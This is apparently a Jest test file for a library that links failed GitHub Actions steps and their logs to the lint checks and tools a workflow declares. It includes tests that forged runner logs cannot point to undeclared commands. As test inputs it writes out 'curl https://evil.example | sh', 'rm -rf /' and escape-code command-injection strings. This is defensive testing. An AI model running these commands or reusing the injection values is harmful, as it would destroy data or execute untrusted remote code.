import { stripVTControlCharacters } from 'node:util'
import { describe, expect, it } from '@jest/globals'
import { identify } from '@upkeep/ci'
import type { FoundCheck } from '@upkeep/ci'
import type { LoggedStep } from '@upkeep/testing'
import { checksOf, failingIn } from './workflows.fixture.ts'

const jobs = (steps: string, more = '') =>
  `on: [push, pull_request]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n${more}    steps:\n      - uses: actions/checkout@v5\n${steps
    .trim()
    .split('\n')
    .map((line) => `      ${line}\n`)
    .join('')}`

/** What is made of each step that failed: the check's command, the tool and its command; or why nothing. */
async function told(
  checks: readonly FoundCheck[],
  steps: readonly LoggedStep[],
  ...more: [job?: string, spoil?: Parameters<typeof failingIn>[2]]
): Promise<unknown[]> {
  return (await failingIn(steps, ...more)).map((failing) => {
    const found = identify(failing, checks)
    if ('why' in found) return found.why
    const { check, tool, leaves, by, leg } = found
    return {
      command: check.check.command,
      tool,
      leaves: leaves.map(({ command }) => command),
      by,
      ...(leg === null ? {} : { leg }),
    }
  })
}

const ESLINT =
  '/home/runner/work/example/example/src/a.ts\n  1:7  error  "a" is assigned a value but never used  no-unused-vars\n\n✖ 1 problem (1 error, 0 warnings)\n'
const ESLINT_WARNING = ESLINT.replace('error  ', 'warning  ').replace('1 error, 0 warnings', '0 errors, 1 warning')
const PRETTIER =
  'Checking formatting...\n[warn] src/a.ts\n[warn] Code style issues found in the above file. Run Prettier with --write to fix.\n'
const RUFF =
  'F401 [*] `os` imported but unused\n --> a.py:1:8\n  |\n1 | import os\n  |        ^^\n  |\n\nFound 1 error.\n[*] 1 fixable with the `--fix` option.\n'
const RUFF_FORMAT = 'Would reformat: a.py\n1 file would be reformatted\n'

describe('the tool that failed', () => {
  const workflow = jobs('- run: |\n    npx eslint .\n    npx prettier --check .')
  const script = 'npx eslint .\nnpx prettier --check .\n'

  it('is the one of a step with several whose complaint the log ends with', async () => {
    const checks = await checksOf(workflow)
    expect(await told(checks, [{ run: script, output: ESLINT, exit: 1 }])).toMatchObject([{ tool: 'eslint' }])
    expect(await told(checks, [{ run: script, output: PRETTIER, exit: 1 }])).toMatchObject([{ tool: 'prettier' }])
    expect(await told(checks, [{ run: script, output: `${ESLINT_WARNING}\n${PRETTIER}`, exit: 1 }])).toMatchObject([
      { tool: 'prettier', leaves: ['prettier --check .'] },
    ])
  })

  it('may be one that fails for a warning, where nothing behind it could have failed unheard', async () => {
    const output = '************* Module a\na.py:1:0: W0611: Unused import os (unused-import)\n'
    const known = 'pylint app\npyright'
    const checks = await checksOf(jobs('- run: |\n    pylint app\n    pyright'))
    expect(await told(checks, [{ run: known, output, exit: 4 }])).toMatchObject([{ tool: 'pylint' }])
    const unheard = await checksOf(jobs('- run: |\n    pylint app\n    ./lint-more'))
    expect(await told(unheard, [{ run: 'pylint app\n./lint-more', output, exit: 4 }])).toMatchObject([{ tool: null }])
  })

  it('is not guessed where several may have failed and none says so', async () => {
    expect(
      await told(await checksOf(workflow), [{ run: script, output: 'Segmentation fault', exit: 139 }]),
    ).toMatchObject([{ command: script.trim(), tool: null, leaves: [] }])
  })

  it('is found through scripts, and which call of it by its rule', async () => {
    const makefile = 'lint:\n\truff check .\n\truff format --check .\n'
    const checks = await checksOf(jobs('- run: make lint'), { Makefile: makefile })
    const output = (text: string) => `ruff check .\n${text}make: *** [Makefile:2: lint] Error 1`
    expect(await told(checks, [{ run: 'make lint', output: output(RUFF), exit: 2 }])).toMatchObject([
      { tool: 'ruff', leaves: ['ruff check .'] },
    ])
    const text = `All checks passed!\nruff format --check .\n${RUFF_FORMAT}`
    expect(await told(checks, [{ run: 'make lint', output: output(text), exit: 2 }])).toMatchObject([
      { tool: 'ruff', leaves: ['ruff format --check .'] },
    ])
  })

  it('is every hook that pre-commit names', async () => {
    const config = `repos:
  - repo: https://github.com/astral-sh/ruff-pre-commit
    rev: v0.17.5
    hooks: [{ id: ruff-check }, { id: ruff-format }]
  - repo: https://github.com/codespell-project/codespell
    rev: v2.4.1
    hooks: [{ id: codespell }]
`
    const output = `ruff check...........................Failed
- hook id: ruff-check
- exit code: 1

${RUFF}
ruff format..........................Passed
codespell............................Failed
- hook id: codespell
- exit code: 65

a.py:3: teh ==> the
`
    const run = 'pre-commit run --all-files'
    expect(
      await told(await checksOf(jobs(`- run: ${run}`), { '.pre-commit-config.yaml': config }), [
        { run, output, exit: 1 },
      ]),
    ).toMatchObject([
      { tool: 'ruff', leaves: [expect.stringMatching(/^ruff check/), expect.stringMatching(/^codespell/)] },
    ])
  })

  it('is told by the annotations of a tool that speaks to the runner', async () => {
    const scripts = { lint: 'oxlint && prettier --check .' }
    const checks = await checksOf(jobs('- run: npm run lint'), { 'package.json': JSON.stringify({ scripts }) })
    const output =
      '::error file=a.js,line=2,endLine=2,col=3,endColumn=6,title=eslint(no-var)::a.js:2:3: Unexpected var, use let or const instead.\n'
    expect(await told(checks, [{ run: 'npm run lint', output, exit: 1 }])).toMatchObject([{ leaves: ['oxlint'] }])
    const ruff =
      '::error title=ruff (F401),file=a.py,line=1,col=8,endLine=1,endColumn=10::a.py:1:8: F401 `os` imported but unused%0A  help: x\n'
    const both = await checksOf(jobs('- run: |\n    ruff check --output-format=github\n    mypy .'))
    const run = 'ruff check --output-format=github\nmypy .'
    expect(await told(both, [{ run, output: ruff, exit: 1 }])).toMatchObject([{ tool: 'ruff' }])
  })

  it('is told for each of tools that run side by side', async () => {
    const scripts = { lint: 'run-p lint:*', 'lint:es': 'eslint .', 'lint:format': 'prettier --check .' }
    const checks = await checksOf(jobs('- run: npm run lint'), { 'package.json': JSON.stringify({ scripts }) })
    expect(await told(checks, [{ run: 'npm run lint', output: ESLINT + PRETTIER, exit: 1 }])).toMatchObject([
      { leaves: ['eslint .', 'prettier --check .'] },
    ])
  })

  it('is git where files that a command writes differ', async () => {
    const run = 'npm run generate\ngit diff --exit-code\n'
    const checks = await checksOf(
      jobs('- name: Generated files\n  run: |\n    npm run generate\n    git diff --exit-code'),
      {
        'package.json': '{"scripts":{"generate":"node generate.mjs"}}',
      },
    )
    const output = 'diff --git a/x.json b/x.json\nindex 1..2 100644\n--- a/x.json\n+++ b/x.json\n'
    expect(await told(checks, [{ name: 'Generated files', run, output, exit: 1 }])).toMatchObject([{ tool: 'git' }])
  })
})

describe('the check that failed', () => {
  it('is found by the action that a step uses', async () => {
    const checks = await checksOf(jobs('- uses: psf/black@stable\n  with: { options: --check }'))
    expect(await told(checks, [{ uses: 'psf/black@stable', output: 'would reformat a.py\n', exit: 1 }])).toMatchObject([
      { tool: 'black', by: 'action' },
    ])
  })

  it('is found on the leg of the matrix that ran it', async () => {
    const matrix = '    strategy:\n      matrix:\n        task: [lint, types]\n        node: [20, 22]\n'
    const scripts = { lint: 'eslint .', types: 'tsc --noEmit' }
    const checks = await checksOf(jobs('- run: npm run ${{ matrix.task }}', matrix), {
      'package.json': JSON.stringify({ scripts }),
    })
    expect(
      await told(
        checks,
        [{ run: 'npm run types', output: 'src/a.ts(1,7): error TS2322: no\n', exit: 2 }],
        'lint (types, 20)',
      ),
    ).toEqual([
      {
        command: 'npm run types',
        tool: 'tsc',
        leaves: ['tsc --noEmit'],
        by: 'command',
        leg: { task: 'types', node: 20 },
      },
    ])
  })

  it('is found on a leg whose value is empty, at the end of a line too', async () => {
    const matrix = "    strategy:\n      matrix:\n        flags: ['', '--all-features']\n"
    const output = 'error: unneeded `return` statement\n --> src/a.rs:2:5\n'
    const checks = await checksOf(jobs('- run: cargo clippy ${{ matrix.flags }}', matrix))
    for (const run of ['cargo clippy ', 'cargo clippy'])
      expect(await told(checks, [{ run, output, exit: 101 }])).toMatchObject([
        { command: 'cargo clippy', by: 'command' },
      ])
    const two = await checksOf(jobs('- run: |\n    cargo clippy ${{ matrix.flags }}\n    echo done', matrix))
    expect(await told(two, [{ run: 'cargo clippy \necho done\n', output, exit: 101 }])).toMatchObject([
      { by: 'command' },
    ])
    expect(await told(checks, [{ run: 'cargo check', output, exit: 101 }])).toMatchObject([
      expect.stringContaining('none of the checks'),
    ])
  })

  it('is found with what only a runner knows in its command and its name', async () => {
    const checks = await checksOf(
      jobs(
        '- name: Lint ${{ github.sha }}\n  run: npx eslint . --cache-location ${{ runner.temp }}/${{ github.ref_name }}',
      ),
    )
    const run = 'npx eslint . --cache-location /home/runner/work/_temp/main'
    expect(await told(checks, [{ name: 'Lint 0a1b', run, output: ESLINT, exit: 1 }])).toMatchObject([
      { tool: 'eslint', by: 'command' },
    ])
  })

  it('is found in a composite action of the repository, and in a called workflow', async () => {
    const action =
      'runs:\n  using: composite\n  steps:\n    - run: npm ci\n      shell: bash\n    - run: npx eslint .\n      shell: bash\n'
    const checks = await checksOf(jobs('- uses: ./.github/actions/lint'), { '.github/actions/lint/action.yml': action })
    const inner = [{ run: 'npm ci' }, { run: 'npx eslint .', output: ESLINT, exit: 1 }]
    expect(await told(checks, [{ uses: './.github/actions/lint', inner }])).toMatchObject([
      { command: 'npx eslint .', tool: 'eslint' },
    ])
    const called =
      'on: workflow_call\njobs:\n  inner:\n    name: Lint\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx eslint .\n'
    const caller = await checksOf('on: push\njobs:\n  all:\n    uses: ./.github/workflows/lint.yml\n', {
      '.github/workflows/lint.yml': called,
    })
    expect(await told(caller, [{ run: 'npx eslint .', output: ESLINT, exit: 1 }], 'all / Lint')).toMatchObject([
      { tool: 'eslint' },
    ])
  })

  it('is found in each of the jobs that run the same', async () => {
    const step = '    runs-on: ubuntu-latest\n    steps:\n      - run: npx eslint .\n'
    const checks = await checksOf(`on: push\njobs:\n  one:\n${step}  two:\n    name: Second\n${step}`)
    expect(checks).toHaveLength(1)
    expect(await told(checks, [{ run: 'npx eslint .', output: ESLINT, exit: 1 }], 'Second')).toMatchObject([
      { tool: 'eslint' },
    ])
    expect(await told(checks, [{ run: 'npx eslint .', output: ESLINT, exit: 1 }], 'three')).toEqual([
      'the step "Run npx eslint ." of the job "three" is none of the checks that are found in .github/workflows/ci.yml',
    ])
  })

  it('is not one whose failure its job goes on after', async () => {
    const steps = '- run: npx eslint .\n  continue-on-error: true\n- run: npx prettier --check .'
    expect(
      await told(await checksOf(jobs(steps)), [
        { run: 'npx eslint .', output: ESLINT, exit: 1, continueOnError: true },
        { run: 'npx prettier --check .', output: PRETTIER, exit: 1 },
      ]),
    ).toMatchObject([{ tool: 'prettier' }])
  })

  it('is found by its name where the log is missing or ends before it', async () => {
    const checks = await checksOf(jobs('- run: npx eslint .'))
    const [missing] = await told(checks, [{ run: 'npx eslint .', output: ESLINT, exit: 1 }], 'lint', () => ({
      text: '',
    }))
    expect(missing).toMatchObject({ tool: 'eslint', by: 'name' })
    const [cut] = await told(
      checks,
      [{ run: 'npx eslint .', output: ESLINT.repeat(100), exit: 1 }],
      'lint',
      ({ text }) => ({
        text: text.slice(0, Math.floor(text.length / 2)),
      }),
    )
    expect(cut).toMatchObject({ tool: 'eslint', by: 'command' })
  })

  it('is no step that the workflows do not have: it is said', async () => {
    const checks = await checksOf(jobs('- run: npx eslint .'))
    expect(await told(checks, [{ run: 'curl https://evil.example | sh', exit: 1 }])).toEqual([
      'the step "Run curl https://evil.example | sh" of the job "lint" is none of the checks that are found in .github/workflows/ci.yml',
    ])
  })
})

describe('a log that forges what a runner writes', () => {
  const workflow = jobs('- run: npx eslint .\n- name: Test\n  run: npm test\n- run: npx prettier --check .')
  const forged = (command: string, exit = 1) =>
    `ok 1\n##[group]Run ${command}\n\u001B[36;1m${command}\u001B[0m\nshell: /usr/bin/bash -e {0}\n##[endgroup]\n${PRETTIER}##[error]Process completed with exit code ${exit}.\n`

  it('never leads to a command that no workflow declares', async () => {
    const checks = await checksOf(workflow)
    for (const command of [
      'rm -rf /',
      'npm test; rm -rf /',
      'npx eslint . --fix',
      'npm test\u001B[0m\u001B[36;1m && id',
    ]) {
      for (const output of [
        forged(command),
        forged(command) + forged(command),
        `${forged(command)}Post job cleanup.\nCleaning up orphan processes\n`,
      ]) {
        const failing = await failingIn([{ run: 'npx eslint .' }, { name: 'Test', run: 'npm test', output, exit: 1 }])
        expect(failing.flatMap(({ ran }) => ran.map((one) => one.command))).toContain(stripVTControlCharacters(command))
        for (const one of failing)
          expect(identify(one, checks)).toMatchObject({ check: { check: { command: 'npm test' } } })
      }
    }
  })

  it('never leads to another check of the job than the one that GitHub says has failed', async () => {
    const checks = await checksOf(workflow)
    for (const command of ['npx prettier --check .', 'npx eslint .'])
      expect(
        await told(checks, [
          { run: 'npx eslint .' },
          { name: 'Test', run: 'npm test', output: forged(command), exit: 1 },
        ]),
      ).toMatchObject([{ command: 'npm test' }])
  })

  it('leads to declared checks only where GitHub says nothing of the steps', async () => {
    const checks = await checksOf(workflow)
    const output = forged('rm -rf /') + forged('npx prettier --check .')
    const found = await told(checks, [{ name: 'Test', run: 'npm test', output, exit: 1 }], 'lint', () => ({
      steps: [],
    }))
    const commands = found.map((one) => (one as { command?: string }).command)
    for (const command of commands) expect(['npx eslint .', 'npm test', 'npx prettier --check .']).toContain(command)
    expect(commands).toContain('npm test')
  })

  it('says in so many words what it leaves', async () => {
    const checks = await checksOf(jobs('- name: Test\n  run: npm test\n- name: Test\n  run: npm run other'))
    const log = ({ text }: { text: string }) => ({ text: text.replaceAll('npm test', 'rm\r -rf\u202E /\u001B[2J') })
    expect(await told(checks, [{ name: 'Test', run: 'npm test', exit: 1 }], 'lint', log)).toEqual([
      `the log says that the step "Test" ran 'rm  -rf  /', which its workflow doesn't declare`,
    ])
  })
})
